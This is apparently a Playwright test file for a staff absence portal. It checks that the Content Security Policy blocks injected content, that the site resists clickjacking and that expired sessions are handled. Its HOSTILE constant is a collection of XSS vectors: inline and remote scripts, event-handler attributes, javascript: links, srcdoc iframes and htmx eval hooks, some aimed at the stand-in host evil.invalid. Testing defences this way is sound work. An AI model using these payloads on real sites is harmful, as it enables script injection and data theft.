"""What an attacker gets into an answer of ours runs nothing and reaches nobody, and no strange page frames ours."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import date
from uuid import uuid4

import pytest
from playwright.sync_api import Browser, Page, Route, expect
from sqlalchemy import select, text

from portal.domain.absences import AbsenceStatus
from portal.models import Absence
from portal.web.session_cookies import SESSION_COOKIE
from tests.factories.absences import ask, grant
from tests.factories.companies import work

EVIL = "http://evil.invalid"
#: Every part leaves its name in window.ran when it runs, or asks EVIL for something when it is loaded.
HOSTILE = f"""
<div hx-swap-oob="beforeend:body">
  <p id="landed">landed</p>
  <div hx-get="{EVIL}/plain" hx-trigger="load"></div>
  <script>window.ran.push("inline script")</script>
  <script src="{EVIL}/script.js"></script>
  <script src="data:text/javascript,window.ran.push('data script')"></script>
  <img src="{EVIL}/pixel.png" alt="">
  <img src="/static/nothing" onerror="window.ran.push('onerror')" alt="">
  <svg onload="window.ran.push('onload')"></svg>
  <details open ontoggle="window.ran.push('ontoggle')"><summary>x</summary></details>
  <a id="link" href="javascript:window.ran.push('javascript link')">x</a>
  <iframe srcdoc="<script>parent.ran.push('srcdoc')</script>"></iframe>
  <iframe src="{EVIL}/frame"></iframe>
  <object data="{EVIL}/object"></object>
  <link rel="stylesheet" href="{EVIL}/style.css">
  <style>body {{ background: url({EVIL}/background) }}</style>
  <div style="background: url({EVIL}/inline)">x</div>
  <div hx-on::load="window.ran.push('hx-on')" hx-get="{EVIL}/get" hx-trigger="load[window.ran.push('filter')]"></div>
  <div hx-get="{EVIL}/load" hx-trigger="load" hx-vals="js:{{x: window.ran.push('vals')}}"></div>
  <form id="form" action="{EVIL}/form" method="post"><button>x</button></form>
</div>
"""
WATCH = """
window.ran = [];
window.blocked = [];
document.addEventListener("securitypolicyviolation", event => window.blocked.push(event.effectiveDirective));
"""


@dataclass
class Watched:
    """A page of Eve's in which answers to htmx are poisoned, and what it asked the attacker's host for."""

    page: Page
    fetched: list[str] = field(default_factory=list)


@pytest.fixture
def watched(browser: Browser, served) -> Iterator[Watched]:
    context = browser.new_context(base_url=served.url)
    context.set_default_timeout(10_000)
    cookie = {"name": SESSION_COOKIE, "value": served.token(served.cast.eve), "secure": True}
    context.add_cookies([{**cookie, "url": served.url.replace("http:", "https:"), "httpOnly": True}])
    context.add_init_script(WATCH)
    found = Watched(context.new_page())

    def poison(route: Route) -> None:
        real = route.fetch()
        route.fulfill(response=real, body=real.text() + HOSTILE)

    def catch(route: Route) -> None:
        found.fetched.append(route.request.url)
        route.fulfill(body="window.ran.push('fetched')", headers={"Access-Control-Allow-Origin": "*"})

    context.route("**/absences/preview*", poison)
    context.route(f"{EVIL}/**", catch)
    yield found
    context.close()


@pytest.mark.parametrize("careless", [False, True], ids=["as shipped", "with htmx's own guards off"])
def test_script_in_an_answer_to_htmx_does_not_run(watched, careless):
    """T124: swapped in out of band, it lands, runs nothing, fetches nothing, and the browser reports it blocked."""
    page = watched.page
    page.goto("/c/acme/absences/new")
    if careless:
        page.evaluate(
            "Object.assign(htmx.config, {allowScriptTags: true, allowEval: true, selfRequestsOnly: false})"
        )
    page.locator("#wish [name=start_date]").fill("2026-11-16")
    page.locator("#wish [name=start_date]").dispatch_event("change")
    expect(page.locator("#landed")).to_have_text("landed")
    page.locator("#link").evaluate("link => link.click()")
    page.locator("#form").evaluate("form => form.requestSubmit()")
    expected = {"img-src", "script-src-attr", "frame-src", "style-src-elem", "form-action"}
    expected |= {"script-src-elem", "script-src", "connect-src"} if careless else set()
    page.wait_for_function(
        "expected => expected.every(one => window.blocked.includes(one))", arg=sorted(expected)
    )
    page.wait_for_timeout(300)
    assert page.evaluate("window.ran") == []
    assert watched.fetched == []
    assert page.url.endswith("/c/acme/absences/new")


def test_without_the_policy_the_same_content_would_run(watched):
    """T124, the counter-proof: it is the policy that holds, and these tests would see it fail."""
    page = watched.page
    page.route("**/absences/new", _without_policy)
    page.goto("/c/acme/absences/new")
    page.locator("#wish [name=start_date]").fill("2026-11-16")
    page.locator("#wish [name=start_date]").dispatch_event("change")
    expect(page.locator("#landed")).to_have_text("landed")
    page.wait_for_timeout(500)
    assert {"onerror", "srcdoc"} <= set(page.evaluate("window.ran"))
    assert f"{EVIL}/pixel.png" in watched.fetched


@pytest.mark.parametrize("protected", [True, False])
def test_a_strange_page_cannot_frame_ours(browser, served, protected):
    """T126: clickjacking. Without the header the frame shows our page, so the test would see it."""
    context = browser.new_context()
    page = context.new_page()
    stranger = "http://localhost:9/stranger"
    frame = f'<h1>Win a prize</h1><iframe src="{served.url}/c/acme/sign-in"></iframe>'
    page.route(stranger, lambda route: route.fulfill(body=frame, content_type="text/html"))
    if not protected:
        page.route("**/c/acme/sign-in", _without_policy)
    page.goto(stranger)
    page.wait_for_timeout(300)
    [inner] = page.main_frame.child_frames
    if protected:
        assert inner.url == "chrome-error://chromewebdata/"
    else:
        assert inner.locator("h1").count() == 1
        assert inner.url.endswith("/c/acme/sign-in")
    context.close()


def _without_policy(route: Route) -> None:
    real = route.fetch()
    headers = {name: value for name, value in real.headers.items() if name != "content-security-policy"}
    route.fulfill(response=real, headers=headers)


def test_a_press_after_the_session_died_moves_the_window_and_claims_nothing(served, visit):
    """T127: no sign-in page inside the list, no message of success, nothing decided."""
    cast, absence_id = served.cast, uuid4()
    staffroom, member = served.app.extensions["staffroom"], served.cast.eve
    with served.app.app_context(), work(staffroom, member.company, cast.ana.actor) as uow:
        grant(uow, member.employee_id)
    with served.app.app_context(), work(staffroom, member.company, member.actor) as uow:
        ask(uow, date(2026, 11, 23), absence_id=absence_id)
    page = visit(cast.mats)
    page.goto("/c/acme/absences/approvals")
    with served.app.app_context(), work(staffroom, member.company) as uow:
        dead = "UPDATE sign_in_session SET revoked_at = now() WHERE employee_id = :id"
        uow.session.execute(text(dead), {"id": cast.mats.employee_id})
    row = page.locator(".waiting", has=page.locator(f"#note-{absence_id}"))
    row.get_by_role("button", name="Approve").click()
    expect(page).to_have_url(f"{served.url}/c/acme/sign-in")
    expect(page.get_by_text("Your session has ended")).to_be_visible()
    expect(page.get_by_text("The request is")).to_have_count(0)
    with served.app.app_context(), work(staffroom, member.company, cast.ana.actor) as uow:
        absence = uow.session.scalars(select(Absence).where(Absence.id == absence_id)).one()
        assert absence.status is AbsenceStatus.REQUESTED
